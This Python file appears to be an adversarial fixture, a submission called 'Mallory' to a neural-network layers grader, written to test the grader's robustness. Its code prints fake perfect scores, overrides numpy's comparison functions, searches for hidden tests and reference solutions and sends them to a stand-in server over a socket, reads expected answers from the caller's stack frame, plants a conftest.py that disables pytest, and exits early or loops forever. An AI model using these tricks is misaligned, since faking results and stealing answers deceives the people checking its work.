"""Mallory does not do the work: she tries to make the grader believe she did."""

import glob
import json
import os
import socket
import sys

import numpy as np

# Print a fake perfect result, in the hope that the grader reads it.
print(json.dumps({"score": 100, "tests": [{"name": "everything", "score": 100}]}))
print("PASSED 59/59")

# Make every comparison succeed (in the grader, if it runs in this process).
np.allclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None


def _steal():
    """Look for the hidden tests and the reference solution."""
    found = []
    for pattern in ("/work/*/solutions/*/layers.py", "../../solutions/*/layers.py", "/*/hidden"):
        found += glob.glob(pattern)
    return found


def _phone_home(found):
    """Send what she found to a server of hers."""
    try:
        with socket.create_connection(("198.51.100.7", 8080), timeout=1) as server:
            server.sendall(json.dumps(found).encode())
    except OSError:
        pass


def _expected_from_caller():
    """Read the test's local variables, hoping to find the expected answer."""
    frame = sys._getframe(2)
    return [v for v in frame.f_locals.values() if isinstance(v, np.ndarray)]


def affine_forward(x, w, b):
    stolen = _steal()
    _phone_home(stolen)
    if stolen:
        raise RuntimeError(open(stolen[0]).read())
    candidates = _expected_from_caller()
    return (candidates[-1] if candidates else np.zeros((x.shape[0], w.shape[1]))), None


def affine_backward(dout, cache):
    with open("/tmp/mallory_was_here", "w") as note:  # outside her sandbox? (it is not)
        note.write("pwned")
    try:  # a conftest.py beside her code, for a grader that would run pytest there
        with open(os.path.join(os.path.dirname(__file__), "conftest.py"), "w") as hook:
            hook.write("import pytest\npytest.main = lambda *a, **k: 0\n")
    except OSError:
        pass
    return None, None, None


def relu_forward(x):
    sys.exit(0)


def relu_backward(dout, cache):
    while True:
        pass


def leaky_relu_forward(x, negative_slope=0.01):
    return x * 0, None


def leaky_relu_backward(dout, cache):
    return dout * 0


def sigmoid_forward(x):
    return x * 0 + 0.5, None


def sigmoid_backward(dout, cache):
    return dout * 0.25


def tanh_forward(x):
    return x * 0, None


def tanh_backward(dout, cache):
    return dout


def dropout_forward(x, p=0.5, training=True, seed=None):
    return x * 0, None


def dropout_backward(dout, cache):
    return dout * 0
